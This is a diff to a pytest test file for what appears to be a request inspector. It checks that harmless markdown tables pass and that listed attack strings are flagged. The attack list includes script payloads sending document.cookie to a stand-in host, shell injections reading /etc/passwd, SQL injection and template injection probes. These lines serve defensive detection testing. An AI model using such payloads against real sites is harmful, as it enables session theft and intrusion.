@@ -56,6 +56,19 @@ I can't open \\server\share\Invoices\2024 or C:\Windows\System32\drivers\etc\hos
 3' = 1 yd, 12" = 1 ft
 """.strip().splitlines()
 
+TABLES = (
+    "| Date | Type | Host |\n|---|---|---|\n| 1 May | new | web1 |",
+    "| id | name | set |\r\n| --- | :---: | ---: |\r\n| 5 | Tea | echo |\r\n",
+    "The hosts:\n\n| host | ip | who |\n|:--|--|--|\n| web | 10.0.0.1 | ann |\n\nThanks!",
+    "| Command | What it does |\n|---|---|\n| ls | lists files |\n| id | tells who you are |",
+)
+
+
+@pytest.mark.parametrize("place", ["form", "json", "multipart"])
+@pytest.mark.parametrize("text", TABLES)
+def test_a_table_passes(inspection: Inspection, place: str, text: str) -> None:
+    assert not findings_in(inspection, place, text)
+
 
 @pytest.mark.parametrize("place", ["query", "form", "json", "multipart"])
 @pytest.mark.parametrize("text", TEXTS)
@@ -96,6 +109,14 @@ ATTACKS = (
     "Escape <script> in names, alert(document.cookie)</script>",
     "Escape <script> in names\nalert(document.cookie)//</script>",
     "how to use <script>fetch('//e.example/'+document.cookie)</script>",
+    # lines of a shell that are no table
+    "| cat /etc/passwd |\ncat /etc/passwd",
+    "x | cat /etc/passwd\n|---|---|",
+    "x; cat /etc/passwd\n| a | b |\n|---|---|",
+    "| a | b |\n|---|---|\n;cat /etc/passwd",
+    "| a' or 1=1 -- | b |\n|---|---|",
+    "| {{ ''|attr('__class__') }} | b |\n|---|---|",
+    "| <script>alert(1)</script> | b |\n|---|---|",
     # the same words in a program
     "fetch('//e.example/?'+document.cookie)",
     "x = new Image; x.src = '//e.example/?' + document.cookie",
